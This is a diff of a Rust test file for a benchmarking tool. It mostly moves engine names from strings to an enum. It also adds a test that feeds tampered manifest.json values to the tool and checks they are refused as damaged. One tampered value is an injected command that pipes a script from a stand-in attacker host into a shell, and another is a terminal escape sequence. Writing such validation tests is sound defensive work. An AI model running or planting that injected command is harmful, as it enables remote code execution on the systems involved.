@@ -22,15 +22,15 @@ fn study() -> Study {
     study
 }
 
-fn environment(engine: &str) -> Environment {
+fn environment(engine: EngineName) -> Environment {
     Environment {
-        engine: engine.to_owned(),
+        engine,
         ..Environment::default()
     }
 }
 
 fn manifest(study: &Study) -> Manifest {
-    Manifest::new(study, BLOCK, environment("live"))
+    Manifest::new(study, BLOCK, environment(EngineName::Live))
 }
 
 fn take(path: &Path, study: &Study, start: Start) -> Result<Folder, FolderError> {
@@ -52,7 +52,7 @@ fn rows(study: &Study, id: BlockId) -> Vec<Row> {
         .collect()
 }
 
-fn write(path: &Path, study: &Study, id: BlockId, engine: &str, validity: Validity) {
+fn write(path: &Path, study: &Study, id: BlockId, engine: EngineName, validity: Validity) {
     let experiment = &study.measures[id.measure].experiment;
     let report = EngineReport {
         concurrency: id.block + 1,
@@ -73,7 +73,13 @@ fn write(path: &Path, study: &Study, id: BlockId, engine: &str, validity: Validi
 
 fn measure(folder: &Folder, study: &Study, ids: impl IntoIterator<Item = BlockId>) {
     for id in ids {
-        write(&folder.draft(study, id), study, id, "live", Validity::Valid);
+        write(
+            &folder.draft(study, id),
+            study,
+            id,
+            EngineName::Live,
+            Validity::Valid,
+        );
         folder.keep(study, id).unwrap();
     }
 }
@@ -199,7 +205,13 @@ fn a_disturbed_block_makes_its_sample_invalid() {
             true => Validity::Invalid("too busy".to_owned()),
             false => Validity::Valid,
         };
-        write(&folder.draft(&study, id), &study, id, "live", validity);
+        write(
+            &folder.draft(&study, id),
+            &study,
+            id,
+            EngineName::Live,
+            validity,
+        );
         folder.keep(&study, id).unwrap();
     }
     folder.merge(&study).unwrap();
@@ -299,12 +311,12 @@ fn an_earlier_run_is_never_lost() {
                 another folder with -o";
     assert!(line.ends_with(told), "{line}");
 
-    let other = Manifest::new(&study, BLOCK, environment("virtual"));
+    let other = Manifest::new(&study, BLOCK, environment(EngineName::Virtual));
     let line = refusal(Folder::take(root.path(), &study, other, Start::Resume));
     let told = "its engine was live: add --engine live, or name another folder with -o";
     assert!(line.ends_with(told), "{line}");
 
-    let other = Manifest::new(&study, BLOCK + 1, environment("live"));
+    let other = Manifest::new(&study, BLOCK + 1, environment(EngineName::Live));
     let line = refusal(Folder::take(root.path(), &study, other, Start::Resume));
     assert!(line.contains("its blocks have 10 connections"), "{line}");
 
@@ -314,6 +326,33 @@ fn an_earlier_run_is_never_lost() {
         line.contains("can't read") && line.contains("manifest.json"),
         "{line}"
     );
+}
+
+/// What it says is shown, and put into commands.
+#[test]
+fn a_manifest_says_nothing_but_what_is_known() {
+    let (root, study) = (TempDir::new().unwrap(), study());
+    drop(take(root.path(), &study, Start::Afresh).unwrap());
+    let path = root.path().join("manifest.json");
+    let whole = fs::read_to_string(&path).unwrap();
+    assert!(read_manifest(root.path()).unwrap().is_some());
+    for (key, value) in [
+        ("engine", "\"live; curl evil.example|sh #\""),
+        ("engine", "\"\\u001b[2J\""),
+        ("engine", "\"arithmetic\""),
+        ("block_size", "0"),
+        ("block_size", "1000001"),
+    ] {
+        let mut manifest: serde_json::Value = serde_json::from_str(&whole).unwrap();
+        manifest[key] = serde_json::from_str(value).unwrap();
+        fs::write(&path, manifest.to_string()).unwrap();
+        let line = Dataset::open(root.path()).unwrap_err().to_string();
+        assert!(
+            line.contains("it is no manifest, or damaged ("),
+            "{key} = {value}: {line}"
+        );
+        assert!(refusal(take(root.path(), &study, Start::Resume)).contains("damaged"));
+    }
 }
 
 #[test]
@@ -333,11 +372,19 @@ fn a_part_of_another_run_is_refused() {
         assert!(line.contains("is of another run: its "), "{line}");
         line
     };
-    let line = refused(&|path| write(path, &other, blocks[0], "live", Validity::Valid));
+    let line = refused(&|path| write(path, &other, blocks[0], EngineName::Live, Validity::Valid));
     assert!(line.contains("was another file"), "{line}");
-    let line = refused(&|path| write(path, &study, blocks[0], "virtual", Validity::Valid));
+    let line = refused(&|path| {
+        write(
+            path,
+            &study,
+            blocks[0],
+            EngineName::Virtual,
+            Validity::Valid,
+        )
+    });
     assert!(line.contains("engine was virtual"), "{line}");
-    let line = refused(&|path| write(path, &study, blocks[2], "live", Validity::Valid));
+    let line = refused(&|path| write(path, &study, blocks[2], EngineName::Live, Validity::Valid));
     assert!(line.contains("block is another one"), "{line}");
 }
 
@@ -357,7 +404,7 @@ fn a_draft_that_is_not_what_it_should_be_is_not_kept() {
     let folder = take(root.path(), &study, Start::Afresh).unwrap();
     let blocks: Vec<_> = study.blocks(BLOCK).collect();
     let draft = folder.draft(&study, blocks[0]);
-    write(&draft, &study, blocks[1], "live", Validity::Valid);
+    write(&draft, &study, blocks[1], EngineName::Live, Validity::Valid);
     assert!(folder.keep(&study, blocks[0]).is_err());
     fs::write(&draft, "").unwrap();
     assert!(folder.keep(&study, blocks[0]).is_err());
